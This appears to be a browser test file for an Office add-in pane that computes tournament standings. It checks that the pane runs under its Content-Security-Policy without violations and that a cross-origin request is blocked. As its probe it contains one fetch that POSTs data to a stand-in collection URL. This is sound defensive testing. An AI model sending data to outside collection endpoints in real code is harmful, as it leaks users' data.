/**
 * The built pane under its own Content-Security-Policy in Chromium (office.js served locally, the in-memory
 * workbook): it loads and computes standings without a single policy violation, and a request to another
 * origin is refused by the policy itself, before it reaches the network.
 */
import { tournamentToSheets } from "../../src/sheets";
import { newWatch, paneContext, panePage, usePaneServer } from "./harness";
import { ftdFixture } from "../helpers/fixtures";

const env = usePaneServer();

test("the pane runs under its CSP with no violation; a connection elsewhere is refused by the policy", async () => {
  const watch = newWatch();
  const ftd = ftdFixture("tournament_579.json");
  const sheets = tournamentToSheets(ftd.tournament);
  const context = await paneContext(env.browser, watch);
  const page = await panePage(context, watch, { sheets: { Results: sheets.results, Players: sheets.players } });
  await page.addInitScript(() => {
    const g = globalThis as unknown as { __csp: string[] };
    g.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      g.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  await page.goto(`${env.origin}/taskpane.html?lang=en`);
  await page.waitForFunction(() => {
    const b = document.getElementById("compute") as HTMLButtonElement | null;
    return !!b && !b.disabled;
  });
  await page.click("#compute");
  await page.waitForFunction(() => ((globalThis as any).__fake.book.sheetNames() as string[]).includes("Standings"));
  expect(watch.pageErrors).toEqual([]);
  expect(await page.evaluate(() => (globalThis as any).__csp)).toEqual([]);
  expect(watch.officeFiles).toContain("office.js");

  const refused = await page.evaluate(async () => {
    try {
      await fetch("https://example.org/collect", { method: "POST", body: "x" });
      return "sent";
    } catch {
      return "refused";
    }
  });
  expect(refused).toBe("refused");
  await page.waitForFunction(() => ((globalThis as any).__csp as string[]).length > 0);
  expect(await page.evaluate(() => (globalThis as any).__csp)).toEqual(["connect-src https://example.org/collect"]);
  expect(watch.blocked.filter((u) => u.includes("example.org"))).toEqual([]); // never reached the network
  await context.close();
});
